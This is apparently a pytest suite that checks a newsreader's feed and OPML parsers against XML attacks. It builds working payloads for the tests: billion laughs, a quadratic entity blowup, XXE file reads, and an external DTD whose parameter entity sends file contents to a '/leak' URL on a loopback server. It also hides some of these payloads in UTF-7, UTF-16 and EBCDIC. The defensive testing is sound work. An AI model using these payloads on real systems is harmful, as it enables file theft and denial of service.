"""XML attacks: entity expansion, external entities and DTDs, through every door.

Billion laughs, a quadratic blowup (one big entity used many times), external
entities (a local file, an http address), parameter entities and an external
DTD go through ``parse_feed``, ``read_opml``, ``newsreader add FILE`` and
``newsreader import-opml FILE``. Each must be refused quickly with a clear
message (or, for a DTD that declares nothing here, parsed without it), with
nothing fetched (the loopback server counts its hits) and no local file read
(a canary file's content never appears anywhere), in bounded memory (a
subprocess under a 1 GB address-space limit). The same DTDs hidden in
UTF-16, UTF-32, UTF-7 and EBCDIC are refused too: feedparser re-encodes a
document by its declaration before parsing it.
"""

from __future__ import annotations

import json
import resource
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.loopback import LoopbackServer
from support.paths import FIXTURE_ROOT

from newsreader.cli import main
from newsreader.sources.feeds import FeedError, parse_feed
from newsreader.sources.opml import OpmlError, read_opml

FIXTURES = FIXTURE_ROOT / "hostile"
SECRET = "CANARY-7f3a9c-do-not-leak"
REFUSED = "declares XML entities"
HANG = 30.0  # seconds: a refusal is a byte scan (milliseconds); an expanded attack runs for minutes.
# The bound tells a refusal from an expansion on any machine, however loaded; speed is the benchmark's.

FEED_ATTACKS = ["xml-billion-laughs.rss", "xml-xxe-file.rss", "xml-xxe-http.rss", "xml-parameter-entity.rss"]
OPML_ATTACKS = ["xml-billion-laughs.opml", "xml-xxe-file.opml"]


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "canary.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture
def server():
    with LoopbackServer() as server:
        server.static("/entity.txt", SECRET, content_type="text/plain")
        server.static("/evil.dtd", "", content_type="application/xml-dtd")  # filled per test
        yield server


def attack(name: str, canary: Path, server: LoopbackServer) -> bytes:
    text = (FIXTURES / name).read_text("utf-8")
    server.static(
        "/evil.dtd",
        f'<!ENTITY fromdtd SYSTEM "file://{canary}">\n'
        f"<!ENTITY % all \"<!ENTITY send SYSTEM '{server.url('/leak')}?%file;'>\">\n%all;\n",
        content_type="application/xml-dtd",
    )
    return text.replace("@CANARY@", str(canary)).replace("@SERVER@", server.url("")).encode("utf-8")


def quadratic_blowup(size: int = 50_000, uses: int = 50_000) -> bytes:
    """About 300 kB of input that expands to size * uses = 2.5 GB."""
    refs = "&big;" * uses
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "{"x" * size}">]>'
        f'<rss version="2.0"><channel><title>Q</title><item><title>Q</title><description>{refs}</description>'
        "</item></channel></rss>"
    ).encode("ascii")


def padded(body: bytes) -> bytes:
    """The DOCTYPE pushed down by a megabyte of comment and whitespace."""
    head, rest = body.split(b"?>", 1)
    return head + b"?>" + b"<!-- " + b" " * 1_000_000 + b" -->\n" + rest


def no_leak(server: LoopbackServer, *texts: str) -> None:
    for text in texts:
        assert SECRET not in text
    assert server.hits("/evil.dtd") == 0 and server.hits("/entity.txt") == 0 and server.hits("/leak") == 0


# ---------------------------------------------------------------- parse_feed and read_opml


@pytest.mark.parametrize("name", FEED_ATTACKS)
def test_feed_attacks_are_refused_quickly(name, canary, server) -> None:
    body = attack(name, canary, server)
    for variant in (body, padded(body)):
        started = time.monotonic()
        with pytest.raises(FeedError, match=REFUSED) as caught:
            parse_feed(variant, "https://example.org/feed")
        assert time.monotonic() - started < HANG
        no_leak(server, str(caught.value))


def test_quadratic_blowup_is_refused_quickly() -> None:
    started = time.monotonic()
    with pytest.raises(FeedError, match=REFUSED):
        parse_feed(quadratic_blowup(), "https://example.org/feed")
    assert time.monotonic() - started < HANG


def _as_utf7(text: str) -> bytes:
    """UTF-7 as a hostile encoder writes it: every '<', '!', '[', ']', '&' and '>' shifted to base64."""
    special = {"<": "+ADw-", ">": "+AD4-", "!": "+ACE-", "[": "+AFs-", "]": "+AF0-", "&": "+ACY-", "%": "+ACU-"}
    head, rest = text.split("?>", 1)
    return (head.replace("?xml version", "?xml version") + ' encoding="utf-7"?>').encode() + "".join(
        special.get(ch, ch) for ch in rest
    ).encode("ascii")


ENCODINGS = {
    "utf-16": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>').encode(
        "utf-16"
    ),
    "utf-16-be-no-bom": lambda text: text.replace(
        '<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16be"?>'
    ).encode("utf-16-be"),
    "utf-32": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-32"?>').encode(
        "utf-32"
    ),
    "utf-7": lambda text: _as_utf7(text.replace('<?xml version="1.0"?>', '<?xml version="1.0"?>')),
    "ebcdic-cp037": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp037"?>').encode(
        "cp037"
    ),
    "ebcdic-cp500": lambda text: text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="cp500"?>').encode(
        "cp500"
    ),
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("name", ["xml-billion-laughs.rss", "xml-xxe-file.rss"])
def test_entities_hidden_in_another_encoding_are_refused(name, encoding, canary, server) -> None:
    text = attack(name, canary, server).decode("utf-8")
    body = ENCODINGS[encoding](text)
    started = time.monotonic()
    with pytest.raises(FeedError, match=REFUSED):
        parse_feed(body, "https://example.org/feed")
    assert time.monotonic() - started < HANG
    with pytest.raises(OpmlError, match=REFUSED):
        read_opml(body)


@pytest.mark.parametrize("name", ["xml-external-dtd.rss"])
def test_an_external_dtd_is_never_fetched(name, canary, server) -> None:
    """No entity is declared in the document itself: it may parse, but the DTD is not read."""
    body = attack(name, canary, server)
    try:
        parsed = parse_feed(body, "https://example.org/feed")
    except FeedError as error:
        texts = [str(error)]
    else:
        texts = [parsed.title] + [item.title + item.document.plain_text() for item in parsed.items]
    no_leak(server, *texts)


@pytest.mark.parametrize("name", OPML_ATTACKS)
def test_opml_attacks_are_refused_quickly(name, canary, server) -> None:
    body = attack(name, canary, server)
    for variant in (body, padded(body)):
        started = time.monotonic()
        with pytest.raises(OpmlError, match=REFUSED) as caught:
            read_opml(variant)
        assert time.monotonic() - started < HANG
        no_leak(server, str(caught.value))


def test_opml_external_dtd_is_never_fetched(canary, server) -> None:
    body = attack("xml-external-dtd.opml", canary, server)
    try:
        entries = read_opml(body)
    except OpmlError as error:
        texts = [str(error)]
    else:
        texts = [f"{e.url} {e.title} {e.folder}" for e in entries]
    no_leak(server, *texts)


def test_opml_quadratic_blowup_is_refused() -> None:
    body = quadratic_blowup().replace(b"<rss", b"<opml").replace(b"</rss>", b"</opml>")
    with pytest.raises(OpmlError, match=REFUSED):
        read_opml(body)


# ---------------------------------------------------------------- through the command line


def test_add_of_each_attack_file_is_refused_with_a_message(home, tmp_path, canary, server, capsys) -> None:
    paths = []
    for name in [*FEED_ATTACKS, "xml-external-dtd.rss"]:
        path = tmp_path / name
        path.write_bytes(attack(name, canary, server))
        paths.append(path)
    quadratic = tmp_path / "quadratic.xml"
    quadratic.write_bytes(quadratic_blowup())
    paths.append(quadratic)
    started = time.monotonic()
    code = main(["add", *map(str, paths)])
    out, err = capsys.readouterr()
    assert time.monotonic() - started < HANG
    # docs/cli.md: any failed source is exit 1, and the count is the last line. The external DTD
    # declares no entity in the document: it is read (without fetching the DTD) and added.
    assert code == 1 and err.splitlines()[-1] == f"{len(paths) - 1} of {len(paths)} sources failed", err
    assert err.count(REFUSED) == len(FEED_ATTACKS) + 1, err  # every one but the external DTD
    assert "Traceback" not in err
    main(["list", "--json"])
    main(["sources", "--json"])
    main(["search", "CANARY"])
    listing, _ = capsys.readouterr()
    no_leak(server, out, err, listing)


def test_import_opml_attacks_are_refused_with_a_message(home, tmp_path, canary, server, capsys) -> None:
    for name in OPML_ATTACKS:
        path = tmp_path / name
        path.write_bytes(attack(name, canary, server))
        assert main(["import-opml", str(path)]) == 1
        out, err = capsys.readouterr()
        assert REFUSED in err and "Traceback" not in err
        no_leak(server, out, err)
    assert main(["export-opml"]) == 0
    assert "example.org" not in capsys.readouterr().out  # nothing was subscribed


def _limit_memory() -> None:  # runs in the child, before exec
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def test_attacks_in_a_memory_limited_subprocess(tmp_path, canary, server) -> None:
    """Under a 1 GB address-space limit and a timeout: a clear error, no MemoryError, no traceback."""
    home = tmp_path / "home"
    paths = []
    for name, body in (
        ("laughs.xml", attack("xml-billion-laughs.rss", canary, server)),
        ("quadratic.xml", quadratic_blowup()),
        ("laughs-utf7.xml", _as_utf7(attack("xml-billion-laughs.rss", canary, server).decode())),
        ("subs.opml", attack("xml-billion-laughs.opml", canary, server)),
    ):
        path = tmp_path / name
        path.write_bytes(body)
        paths.append(path)
    base = [sys.executable, "-m", "newsreader", "--home", str(home)]
    for argv in (["add", *map(str, paths[:3])], ["import-opml", str(paths[3])]):
        done = subprocess.run(base + argv, capture_output=True, text=True, timeout=60, preexec_fn=_limit_memory)
        assert done.returncode == 1, done.stderr
        assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
        assert REFUSED in done.stderr
        no_leak(server, done.stdout, done.stderr)
    done = subprocess.run(base + ["list", "--json"], capture_output=True, text=True, timeout=60)
    assert json.loads(done.stdout) == []
